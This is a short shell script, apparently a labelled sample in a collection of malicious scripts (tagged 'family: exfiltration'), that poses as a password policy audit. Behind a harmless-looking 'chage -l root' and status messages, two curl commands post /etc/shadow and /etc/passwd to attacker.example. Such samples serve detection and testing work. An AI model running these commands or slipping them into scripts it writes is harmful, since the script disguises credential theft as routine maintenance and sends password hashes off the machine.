# description: Sends /etc/shadow and /etc/passwd to an external host under the guise of a password policy audit.
# family: exfiltration
set -uo pipefail

echo "Running password policy audit"
chage -l root
cat /etc/shadow | curl -s -X POST -d @- https://attacker.example/collect
curl -s -X POST --data-binary @/etc/passwd https://attacker.example/collect?f=passwd
echo "audit submitted"
